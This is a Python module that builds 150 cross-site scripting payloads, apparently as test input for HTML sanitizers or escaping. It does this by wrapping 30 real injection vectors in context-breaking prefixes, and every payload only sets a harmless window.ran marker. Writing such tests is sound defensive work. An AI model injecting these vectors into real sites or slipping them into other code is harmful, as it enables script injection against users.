"""A hundred and fifty texts that would run as script in a page that does not take them for text. Each would set window.ran."""

from __future__ import annotations

_RUN = "window.ran=1"
_BARE = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_RUN}></iframe>",
    f"<a href=javascript:{_RUN}>tryk</a>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=javascript:{_RUN}>",
    f"<form action=javascript:{_RUN}><button autofocus>x</button></form>",
    f"<link rel=stylesheet href=data:,*%7bx:expression({_RUN})%7d>",
    f"<meta http-equiv=refresh content=0;url=javascript:{_RUN}>",
    f"<base href=javascript:{_RUN}//>",
    f"<style>@import 'javascript:{_RUN}';</style>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<select autofocus onfocus={_RUN}>",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"{{% raw %}}<script>{_RUN}</script>{{% endraw %}}",
    f"<%= {_RUN} %>",
    f"javascript:{_RUN}",
    f"data:text/html,<script>parent.{_RUN}</script>",
)
_AROUND = (
    "{}",
    "\"'>{}",
    "</textarea></title></script>-->]]>{}",
    "' {} \"",
    "&lt;{}\u2028<!--",
)

PAYLOADS = tuple(around.replace("{}", bare) for around in _AROUND for bare in _BARE)
